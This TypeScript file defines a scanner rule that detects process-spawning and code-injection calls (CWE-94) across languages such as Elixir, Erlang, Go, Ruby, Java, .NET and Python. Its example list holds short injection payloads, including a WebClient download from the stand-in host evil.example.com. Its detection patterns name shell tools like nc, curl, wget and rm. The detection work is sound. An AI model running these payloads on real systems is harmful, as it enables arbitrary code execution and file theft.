import { confidence } from '../../placement/confidence.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';
import { compileSequences, findSequence } from './sequence.ts';

/** Elixir, Erlang, Go, Rust, Perl, Lisp, .NET, Rhino …: `System.cmd("id", [])`, `os:cmd("id")`. */
export const processCall: ValueRule = {
  id: 'code.process-call',
  cwe: 'CWE-94',
  severity: 'critical',
  score: confidence.strong,
  message: 'starts a process, or reaches the classes that do, in one of many languages',
  trigger: {
    literals: [
      [
        ...wordList(
          '.cmd( os:cmd os.cmd open_port port.open eval_string clojure.java run-program',
          'run-shell shell-command send( method( __send__ .method( const_get open("|',
        ),
        "open('|",
        ...wordList(
          'exec.command syscall.exec loadlib packages. java.lang.system java.type',
          'javaimporter gettype assembly. createinstance execshell executeshell execcmd',
          'shell("',
        ),
        "shell('",
        ...wordList('command::new process.run deno. bun.spawn codetype __code__ _g["'),
        "_g['",
        ...wordList('run(` usr.bin libc. webclient io.file. startinfo( process] assembly]'),
      ],
    ],
  },
  judge: (subject) => findSequence(subject, sequences),
  examples: [
    'System.cmd("id", [])',
    'os:cmd("id").',
    'Kernel.send(:system, "id")',
    'Packages.java.lang.System.exit(0)',
    '"".GetType().Assembly.GetType("System.Diagnostics.Process")',
    'exec.Command("sh", "-c", "id").Output()',
    'open("|id").read',
    '(lambda:0).__code__.__class__(0,0)',
    '(uiop:run-program "id")',
    'new System.Net.WebClient().DownloadFile("http://evil.example.com/a","a")',
    '[Diagnostics.Process]::Start("calc")',
    '[Reflection.Assembly]::Load($bytes)',
    '@Html.Raw(System.IO.File.ReadAllText("web.config"))',
    'new ProcessStartInfo("cmd.exe")',
  ],
  lookalikes: [
    'The System.cmd function of Elixir starts a program',
    'send(:message) is called on the socket',
    'obj.GetType().Name is what I need',
    'Deno.serve is the new server of Deno',
    'Process.run and Process.start are alike',
    'const server = await Deno.readTextFile("./a.txt")',
    'open("|") fails',
    'In C# I wrote new WebClient().DownloadFile(url, "a.zip") to get it',
    'var client = new WebClient().DownloadString(url);',
    'the [Process]::Start method of .NET',
  ],
};

const programs =
  'id|sh|bash|zsh|cmd|powershell|pwsh|cat|ls|whoami|uname|curl|wget|nc|ncat|ping|sleep|touch|rm|echo|calc|nslookup|env|hostname|dir';
const rubyRunners =
  'system|exec|eval|instance_eval|class_eval|spawn|open|fork|syscall|const_get|load|require';

const sequences = compileSequences([
  { pattern: "system . cmd ( '", score: confidence.strong, inProse: confidence.hint },
  { pattern: "system . shell ( '", score: confidence.strong, inProse: confidence.hint },
  { pattern: "os . cmd ( '", score: confidence.strong, inProse: confidence.hint },
  { pattern: "os . cmd ( ~ c '", score: confidence.strong, inProse: confidence.hint },
  { pattern: "os : cmd ( '", score: confidence.certain, inProse: confidence.hint },
  { pattern: 'erlang : open_port|halt (', score: confidence.strong, inProse: confidence.hint },
  { pattern: 'port . open ( {', score: confidence.strong, inProse: confidence.hint },
  {
    pattern: "code . eval_string|eval_quoted|eval_file ( '",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: "clojure . java . shell / sh '", score: confidence.certain },
  { pattern: 'clojure . java . shell|io', score: confidence.likely, inProse: confidence.trace },
  { pattern: 'uiop : run - program', score: confidence.strong, inProse: confidence.hint },
  { pattern: 'ext : run - program|shell', score: confidence.strong, inProse: confidence.hint },
  {
    pattern: "shell - command - to - string '",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: "shell - command '", score: confidence.strong, inProse: confidence.trace },
  { pattern: `send|public_send|__send__ ( : ${rubyRunners} ,`, score: confidence.certain },
  { pattern: `send|public_send|__send__ ( ' ${rubyRunners} ' ,`, score: confidence.certain },
  { pattern: `method ( : ${rubyRunners} ) . call|unbind|to_proc`, score: confidence.certain },
  {
    pattern: 'const_get ( : kernel|file|io|process|open3',
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: `open ( ' | ${programs}`, score: confidence.certain },
  { pattern: "open ( ' | /", score: confidence.strong },
  {
    pattern: `exec . command|commandcontext ( ' ${programs}`,
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: "exec . command ( ' /", score: confidence.strong, inProse: confidence.hint },
  { pattern: "syscall . exec|forkexec ( '", score: confidence.strong, inProse: confidence.hint },
  { pattern: "package . loadlib ( '", score: confidence.certain },
  { pattern: "_g [ ' os|io|load|loadstring|require|debug", score: confidence.strong },
  {
    pattern: 'packages . java|javax|org|com|sun . *',
    score: confidence.strong,
    inProse: confidence.hint,
  },
  {
    pattern: 'java . lang . system . getproperty|getenv|exit|load (',
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: "java . type ( ' java|javax", score: confidence.certain },
  { pattern: 'javaimporter ( *', score: confidence.strong, inProse: confidence.hint },
  {
    pattern: "webclient ( ) . downloadfile|downloadstring|downloaddata|openread ( '",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  {
    pattern:
      'system . io . file . readalltext|readalllines|readallbytes|writealltext|delete|copy (',
    score: confidence.strong,
    inProse: confidence.hint,
  },
  {
    pattern: 'diagnostics . process ] : : start (',
    score: confidence.certain,
    inProse: confidence.hint,
  },
  {
    pattern: 'reflection . assembly ] : : load|loadfrom|loadfile|loadwithpartialname (',
    score: confidence.certain,
    inProse: confidence.hint,
  },
  {
    pattern: "processstartinfo ( ' cmd|powershell|sh|bash|/",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: 'gettype ( ) . assembly . *', score: confidence.certain },
  {
    pattern: "gettype ( ' system . diagnostics|io|reflection|runtime|activator",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  {
    pattern: 'gettype ( ) . getmethod|getmethods|invokemember (',
    score: confidence.strong,
    inProse: confidence.trace,
  },
  {
    pattern: "assembly . load|loadfrom|loadfile|unsafeloadfrom ( '",
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: 'assembly . load ( convert', score: confidence.certain },
  {
    pattern: "activator . createinstance ( '",
    score: confidence.strong,
    inProse: confidence.trace,
  },
  { pattern: 'createinstance ( type . gettypefromprogid', score: confidence.certain },
  {
    pattern: `execshell|executeshell|execcmd|execcmdex|execprocess ( '`,
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: `shell ( ' ${programs}`, score: confidence.strong, inProse: confidence.hint },
  {
    pattern: `command : : new ( ' ${programs}`,
    score: confidence.strong,
    inProse: confidence.hint,
  },
  {
    pattern: `process . run|runsync ( ' ${programs}`,
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: 'deno . run|command ( *', score: confidence.strong, inProse: confidence.hint },
  { pattern: 'bun . spawn|spawnsync ( *', score: confidence.strong, inProse: confidence.hint },
  {
    pattern: '__code__ . __class__|replace|co_code|co_consts',
    score: confidence.strong,
    inProse: confidence.hint,
  },
  { pattern: 'codetype ( * , *', score: confidence.strong, inProse: confidence.hint },
  { pattern: `run ( \` ${programs}`, score: confidence.strong, inProse: confidence.hint },
  { pattern: 'libc . system|execve ( *', score: confidence.strong, inProse: confidence.hint },
]);
